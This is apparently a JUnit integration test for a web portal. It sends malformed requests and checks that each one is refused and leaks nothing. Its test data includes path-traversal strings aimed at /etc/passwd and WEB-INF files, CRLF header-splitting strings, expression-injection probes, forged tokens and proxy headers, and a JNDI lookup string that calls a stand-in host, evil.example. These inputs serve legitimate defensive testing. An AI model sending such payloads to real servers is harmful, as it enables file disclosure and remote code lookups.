package org.wardkey.web.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.wardkey.web.attack.Wire.Answer;
import org.wardkey.web.browser.client.Client;
import org.wardkey.web.browser.client.Form;
import org.wardkey.web.browser.client.Reply;
import org.wardkey.web.browser.portal.Portal;

@FromOutside
@DisplayName("Invariant 13: a request of a wrong shape")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileRequestIT {

    @ParameterizedTest(name = "{0}")
    @DisplayName("by a path that is none of ours is refused, or is nothing more than that path")
    @ValueSource(
            strings = {
                "/nowhere",
                "/SIGN-IN",
                "/sign-in/",
                "/sign-in/nowhere",
                "/profile/../desk",
                "/assets/../desk",
                "/assets/../WEB-INF/web.xml",
                "/WEB-INF/web.xml",
                "/WEB-INF/classes/",
                "/META-INF/MANIFEST.MF",
                "/%57EB-INF/web.xml",
                "/./WEB-INF/web.xml",
                "/web-inf/web.xml",
                "/WEB-INF",
                "/WEB-INF/lib",
                "/META-INF",
                "/WEB-INF;x=1/web.xml",
                "//WEB-INF/web.xml",
                "/sign-in.xhtml",
                "/profile.xhtml",
                "/desk.xhtml;x",
                "/WEB-INF/layout/page.xhtml",
                "/sign-in%2exhtml",
                "/sign-in;jsessionid=0123456789",
                "/profile;jsessionid=0123456789",
                "/;/profile",
                "/profile;/../sign-in",
                "//sign-in",
                "///",
                "/sign-in//code",
                "/sign-in%2fcode",
                "/sign-in%5ccode",
                "/sign-in\\code",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/..%2f..%2fetc/passwd",
                "/%c0%ae%c0%ae/",
                "/%252e%252e/",
                "/..",
                "/../..",
                "/sign-in%00",
                "/sign-in%00.css",
                "/sign-in%0d%0aX-Split:%201",
                "/%0d%0aX-Split:1",
                "/%ff",
                "/\u00ff",
                "/<b/id=wk>",
                "/%3Cb%20id=wk%3E",
                "/#{7*7777}",
                "/%23%7B7*7777%7D",
                "/*",
                "/~root",
                "/.git/config",
                "/jakarta.faces.resource/faces.js.xhtml?ln=jakarta.faces",
                "/jakarta.faces.resource/../WEB-INF/web.xml",
                "/jakarta.faces.resource/web.xml?ln=../WEB-INF",
                "/jakarta.faces.resource/page.xhtml.xhtml?con=WEB-INF",
                "/javax.faces.resource/x",
                "/faces/sign-in",
                "/assets",
                "/assets/",
                "/assets/x/../../desk",
                "/assets/%2e%2e/desk",
                "/metrics",
                "/health",
                "/health/ready",
                "/openapi",
                "/application.wadl",
                "/asadmin",
                "/__asadmin",
                "/web-services",
                "/management/domain",
                "/monitoring",
                "/robots.txt",
                "/favicon.ico",
                "/trouble"
            })
    void paths(String path, Portal portal) {
        Answer answer = new Wire(portal).get(path);

        sound(path, answer);
        assertThat(answer.status()).isIn(200, 303, 400, 403, 404, 405);
        assertThat(answer.body()).doesNotContain("<web-app", "ui:composition", "Manifest-Version", "WEB-INF");
        answer.header("Location").ifPresent(to -> assertThat(to).isIn("/sign-in", "/profile"));
    }

    @ParameterizedTest(name = "{0}")
    @DisplayName("by a method that no page has is refused with what is allowed")
    @ValueSource(
            strings = {"PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "BREW", "get", "POST\u0001"
            })
    void methods(String method, Portal portal) {
        for (String path : new String[] {"/sign-in", "/activate", "/help", "/language"}) {
            Answer answer = new Wire(portal).send(method + ' ' + path + " HTTP/1.1", "Content-Length: 0");

            sound(method + ' ' + path, answer);
            assertThat(answer.status()).isIn(400, 403, 405);
        }
    }

    @ParameterizedTest(name = "{0}")
    @DisplayName("with a body that no form sends is refused")
    @ValueSource(
            strings = {
                "application/json",
                "application/xml",
                "text/xml",
                "text/plain",
                "multipart/form-data; boundary=x",
                "multipart/form-data",
                "application/x-java-serialized-object",
                "application/octet-stream",
                "image/png",
                "x",
                "/",
                "application/x-www-form-urlencoded; charset=klingon",
                "application/x-www-form-urlencodedx"
            })
    void contentTypes(String type, Portal portal) {
        var client = new Client(portal);
        Form form = client.form("/sign-in", "form");
        for (String body : new String[] {form.encoded(), "{\"form:identifier\": 1}", "<a/>", "--x\r\n\r\n--x--", ""}) {

            Reply reply = client.send(
                    "/sign-in", request -> request.header("Content-Type", type).POST(BodyPublishers.ofString(body)));

            Sound.check(type, reply);
            assertThat(reply.location()).isEmpty();
        }
    }

    @ParameterizedTest(name = "{0}")
    @DisplayName("with a token that is missing, made up or somebody else's is refused, and nothing is done")
    @ValueSource(strings = {"empty", "x", "AAAAAAAAAAAAAAAAAAAAAA", "somebody else's", "none"})
    void tokens(String token, Portal portal) {
        var client = new Client(portal);
        Form form = client.form("/sign-in", "form")
                .with("form:identifier", "WH100001")
                .with("form:password", "mango tree river boat");
        String foreign = new Client(portal).form("/sign-in", "form").fields().getOrDefault(Attacker.TOKEN, "");
        Form forged = switch (token) {
            case "empty" -> form.with(Attacker.TOKEN, "");
            case "none" -> form.without(Attacker.TOKEN);
            case "somebody else's" -> form.with(Attacker.TOKEN, foreign);
            default -> form.with(Attacker.TOKEN, token);
        };

        Reply reply = client.send(forged);

        Sound.check(token, reply);
        assertThat(reply.status()).isEqualTo(403);
        assertThat(client.cookie("wardkey-session")).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @DisplayName("that claims to come from a script of Faces is answered like any other")
    @ValueSource(
            strings = {
                "jakarta.faces.partial.ajax=true",
                "jakarta.faces.partial.ajax=true&jakarta.faces.source=form:go&jakarta.faces.partial.execute=@all"
                        + "&jakarta.faces.partial.render=@all",
                "jakarta.faces.partial.ajax=true&jakarta.faces.source=nothing&jakarta.faces.behavior.event=action"
                        + "&jakarta.faces.partial.event=click",
                "jakarta.faces.partial.ajax=true&jakarta.faces.source=form:identifier"
                        + "&jakarta.faces.behavior.event=%23%7B7*7777%7D&jakarta.faces.partial.render=%3Cb%20id=wk%3E",
                "jakarta.faces.partial.ajax=true&jakarta.faces.partial.execute=@none&jakarta.faces.partial.resetValues=true",
                "jakarta.faces.partial.ajax=maybe&jakarta.faces.RenderKitId=x",
                "jakarta.faces.RenderKitId=HTML_BASIC2",
                "jakarta.faces.ViewState=x",
                "jakarta.faces.ViewState=-1:-1",
                "jakarta.faces.ViewState=rO0ABXNy",
                "jakarta.faces.ViewState=stateless&jakarta.faces.ClientWindow=x",
                "jfwid=x",
                "jftfdi=x&jffi=y&jakarta.faces.ToFlow=z",
                "primefaces.ignoreautoupdate=true&primefaces.nonce=x",
                "form=x&leave=leave&leave:go=1"
            })
    void facesParameters(String parameters, Portal portal) {
        var client = new Client(portal);
        String body = client.form("/sign-in", "form")
                        .without("jakarta.faces.ViewState")
                        .encoded()
                + '&'
                + parameters;
        for (String header : new String[] {"", "partial/ajax", "x"}) {

            Reply reply = client.send("/sign-in", request -> {
                var typed = request.header("Content-Type", "application/x-www-form-urlencoded");
                var marked = header.isEmpty() ? typed : typed.header("Faces-Request", header);
                return marked.header("X-Requested-With", "XMLHttpRequest").POST(BodyPublishers.ofString(body));
            });
            Reply asked = client.get("/sign-in?" + parameters);

            Sound.check(parameters, reply);
            Sound.check(parameters, asked);
        }
    }

    @ParameterizedTest(name = "{0}")
    @DisplayName("with headers that no browser sends is answered, and none of them is believed")
    @MethodSource
    void headers(String name, String[] headers, Portal portal) {
        Answer answer = new Wire(portal).get("/sign-in", headers);

        sound(name, answer);
        assertThat(answer.headers() + answer.body()).doesNotContain("evil.example");
    }

    @Test
    @DisplayName("that the server refuses by itself is answered with nothing at all")
    void unreadable(Portal portal) {
        var wire = new Wire(portal);
        for (String path : new String[] {"/%", "/%zz", "/sign-in%"}) {

            Answer answer = wire.get(path);

            // Payara Micro 6 answers 200 to a path that it cannot decode, before any filter of ours.
            assertThat(answer.body()).isEmpty();
            assertThat(answer.headers()).doesNotContainPattern(Sound.INSIDE);
        }
    }

    static Stream<Arguments> headers() {
        return Stream.of(
                given("a forged host", "Host: evil.example"),
                given("a host that is none", "Host: evil.example/<b id=wk>"),
                given("two hosts", "Host: localhost", "Host: evil.example"),
                given(
                        "a proxy that is none",
                        "X-Forwarded-Host: evil.example",
                        "X-Forwarded-For: evil.example",
                        "X-Forwarded-Proto: gopher",
                        "X-Forwarded-Prefix: //evil.example",
                        "Forwarded: for=evil.example;host=evil.example;proto=gopher",
                        "X-Original-URL: /desk",
                        "X-Rewrite-URL: /desk",
                        "X-HTTP-Method-Override: DELETE"),
                given("a session that never was", "Cookie: wardkey-session=0123456789abcdef; JSESSIONID=../../x"),
                given("a session id of 4 kB", "Cookie: wardkey-session=" + "a".repeat(4_000)),
                given("broken cookies", "Cookie: ;;=;wardkey-form;wardkey-form=\";wardkey-language=../..;$Version=9"),
                given("three hundred cookies", "Cookie: " + cookies(300)),
                given("a header of 20 kB", "X-Long: " + "a".repeat(20_000)),
                given(
                        "two hundred headers",
                        IntStream.range(0, 200).mapToObj(i -> "X-" + i + ": 1").toArray(String[]::new)),
                given("a broken language", "Accept-Language: ;;;q=zz,*,-,hi-\u0001"),
                given("a very long language", "Accept-Language: " + "en-".repeat(1_000)),
                given("a broken type", "Accept: ;;,/,*/*;q=zz", "Accept-Encoding: ;;gzip;q=zz", "Range: bytes=-1,zz-"),
                given(
                        "a name for the agent",
                        "User-Agent: ${jndi:ldap://evil.example}#{7*7777}" + "\u00ff".repeat(2_000)),
                given("a lie about the length", "Content-Length: abc"),
                given("two lengths", "Content-Length: 0", "Content-Length: 5"),
                given("a broken chunk", "Transfer-Encoding: chunked"),
                given("half a header", "X-Half"));
    }

    private static Arguments given(String name, String... headers) {
        return Arguments.of(name, headers);
    }

    private static String cookies(int count) {
        return String.join(
                "; ", IntStream.range(0, count).mapToObj(i -> "c" + i + "=1").toList());
    }

    /** What the server answers by itself, before any page, carries nothing; everything else holds what pages hold. */
    private static void sound(String attack, Answer answer) {
        assertThat(answer.status()).as(attack).isBetween(200, 499);
        assertThat(answer.headers())
                .as(attack)
                .doesNotContainPattern(Sound.INSIDE)
                .doesNotContain("\nServer:");
        assertThat(answer.header(Hostile.HEADER)).as(attack).isEmpty();
        assertThat(answer.body().replace("jakarta.faces.", ""))
                .as(attack)
                .doesNotContainPattern(Sound.INSIDE)
                .doesNotContain(Hostile.TAG, Hostile.PRODUCT);
        if (!answer.body().isEmpty()) {
            assertThat(answer.header("Content-Security-Policy").orElse(""))
                    .as(attack)
                    .contains("frame-ancestors 'none'");
            assertThat(answer.header("X-Content-Type-Options")).as(attack).contains("nosniff");
        }
    }
}
